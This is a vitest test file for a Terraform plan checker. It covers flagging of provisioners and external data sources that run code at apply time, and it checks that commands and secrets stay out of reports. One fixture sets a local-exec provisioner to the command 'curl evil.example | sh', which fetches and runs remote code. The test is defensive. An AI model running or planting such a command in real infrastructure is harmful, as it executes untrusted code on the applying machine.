import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { DEFAULT_CONFIG, parseConfig } from '../../src/config/parse.js';
import { assess } from '../../src/core/assess.js';
import { configurationAddress } from '../../src/core/configuration.js';
import { parseTerraformPlan } from '../../src/sources/terraform/parse.js';
import { fixturesDir } from '../support/paths.js';
import { runCli } from '../support/run-cli.js';
import { rc, tfPlan } from '../support/tfplan.js';

const fixture = join(fixturesDir, 'terraform', 'apply-time-code', 'plan.json');
const SECRET = 'tfvars-secret-7f3a'; // the sensitive variable of the fixture (terraform.tfvars)

const resource = (address: string, extra: Record<string, unknown> = {}) => {
  const [mode, type, name] = address.startsWith('data.') ? ['data', ...address.split('.').slice(1)] : ['managed', ...address.split('.')];
  return { address, mode, type, name, ...extra };
};
const planWith = (changes: Record<string, unknown>[], resources: Record<string, unknown>[], extra: Record<string, unknown> = {}) =>
  parseTerraformPlan(tfPlan(changes, { configuration: { root_module: { resources } }, ...extra }), { path: 'plan.json' });
const prod = { variables: { environment: { value: 'prod' } } };
const applyTime = (r: ReturnType<typeof assess>) => r.findings.filter((f) => f.code === 'STEER-APPLY-TIME-CODE');

describe('apply-time code', () => {
  it('a local-exec provisioner on a create on production needs review (the command is not shown)', () => {
    const plan = planWith(
      [rc({ address: 'null_resource.deploy', type: 'null_resource', actions: ['create'] })],
      [resource('null_resource.deploy', { provisioners: [{ type: 'local-exec', expressions: { command: { constant_value: 'curl evil.example | sh' } } }] })],
      prod,
    );
    const r = assess([plan], { config: DEFAULT_CONFIG });
    expect(r.verdict).toBe('review');
    expect(applyTime(r)).toEqual([
      expect.objectContaining({
        severity: 'review',
        address: 'null_resource.deploy',
        message:
          'null_resource.deploy is created: 1 provisioner runs at apply — local-exec (runs a command on the machine that applies) — after it is created (unless declared when = destroy) on production (variable environment = "prod"); the commands are not shown.',
      }),
    ]);
    expect(JSON.stringify(r.findings)).not.toContain('curl');
  });

  it('is information outside production, and a steer.yml rule cannot allow it away', () => {
    const changes = [rc({ address: 'terraform_data.x', actions: ['create'] })];
    const resources = [resource('terraform_data.x', { provisioners: [{ type: 'remote-exec' }] })];
    expect(applyTime(assess([planWith(changes, resources)], { config: DEFAULT_CONFIG }))[0]!.severity).toBe('info');
    const allowAll = parseConfig('version: 1\nrules:\n  - match: { environment: production }\n    verdict: allow\n', 'steer.yml');
    const r = assess([planWith(changes, resources, prod)], { config: allowAll });
    expect(r.verdict).toBe('review');
    expect(applyTime(r)[0]!.message).toContain('remote-exec (runs a command on the remote host)');
  });

  it('provisioners do not run on an update or a no-op, and a when the source records is honoured', () => {
    const resources = [
      resource('terraform_data.a', { provisioners: [{ type: 'local-exec' }] }),
      resource('terraform_data.b', { provisioners: [{ type: 'local-exec' }] }),
      resource('terraform_data.c', { provisioners: [{ type: 'local-exec', when: 'destroy' }] }),
    ];
    const changes = [rc({ address: 'terraform_data.a', actions: ['update'] }), rc({ address: 'terraform_data.b', actions: ['no-op'] }), rc({ address: 'terraform_data.c', actions: ['create'] })];
    expect(applyTime(assess([planWith(changes, resources, prod)], { config: DEFAULT_CONFIG }))).toEqual([]);
    const destroyed = assess([planWith([rc({ address: 'terraform_data.c', actions: ['delete'] })], resources, prod)], { config: DEFAULT_CONFIG });
    expect(applyTime(destroyed)[0]!.message).toMatch(/^terraform_data\.c is destroyed: 1 provisioner runs at apply — local-exec .* before it is destroyed/);
  });

  it('an external data source is a finding in the configuration and when it is read at apply', () => {
    const resources = [resource('data.external.probe'), resource('data.external.late')];
    const changes = [rc({ address: 'data.external.late', type: 'external', actions: ['read'] })];
    (changes[0] as { mode: string }).mode = 'data';
    const r = assess([planWith(changes, resources, prod)], { config: DEFAULT_CONFIG });
    expect(r.verdict).toBe('review');
    expect(applyTime(r).map((f) => [f.address, f.severity])).toEqual([
      ['data.external.late', 'review'],
      ['data.external.probe', 'review'],
    ]);
    expect(applyTime(r)[0]!.message).toBe(
      'data.external.late is read at apply: an external data source runs a program on the machine that applies on production (variable environment = "prod"); the program is not shown.',
    );
  });

  it('a Terraform plan without its configuration cannot show provisioners: review on production', () => {
    const plan = parseTerraformPlan({ ...tfPlan([rc({ address: 'terraform_data.x', actions: ['create'] })], prod), configuration: undefined }, { path: 'plan.json' });
    const r = assess([plan], { config: DEFAULT_CONFIG });
    expect(r.verdict).toBe('review');
    expect(applyTime(r)[0]!.message).toMatch(/^plan\.json: the plan has no configuration, so whether provisioners run at apply/);
  });

  it('instance keys are dropped whole to find the configuration block, quoted keys included', () => {
    expect(configurationAddress('module.a["x.y[0]"].module.b[2].aws_instance.c["k\\"]"]')).toBe('module.a.module.b.aws_instance.c');
    expect(configurationAddress('data.external.x[0]')).toBe('data.external.x');
  });
});

describe('apply-time code in a real Terraform 1.11 plan', () => {
  it('names each resource, the provisioner kinds and when they run; review on production; never the command or the secret', () => {
    const r = runCli(['plan-check', fixture, '--env', 'production', '--format', 'json']);
    expect(r.code).toBe(2);
    const report = JSON.parse(r.stdout) as { findings: { code: string; severity: string; address: string | null; message: string }[] };
    const found = report.findings.filter((f) => f.code === 'STEER-APPLY-TIME-CODE');
    expect(found.map((f) => [f.address, f.severity])).toEqual([
      ['terraform_data.hook', 'review'],
      ['terraform_data.rotating', 'review'],
      ['module.setup[0].terraform_data.init["a.b[c]"]', 'review'],
      [null, 'info'],
    ]);
    expect(found[0]!.message).toContain('2 provisioners run at apply — local-exec (runs a command on the machine that applies), file (copies files to the remote host) — after it is created');
    expect(found[1]!.message).toContain('is replaced: 1 provisioner runs at apply — local-exec');
    expect(found[2]!.message).toContain('remote-exec (runs a command on the remote host)');
    expect(found[3]!.message).toContain('1 resource(s) no longer in the configuration are destroyed (terraform_data.retired)');
    for (const format of ['text', 'json', 'markdown', 'sarif']) {
      const out = runCli(['plan-check', fixture, '--env', 'production', '--format', format]);
      expect(out.stdout + out.stderr).not.toContain(SECRET);
      expect(out.stdout + out.stderr).not.toContain('Authorization');
    }
  });

  it('outside production it is reported, not weighed', () => {
    const r = runCli(['plan-check', fixture, '--format', 'json', '--env', 'staging']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('STEER-APPLY-TIME-CODE');
  });
});
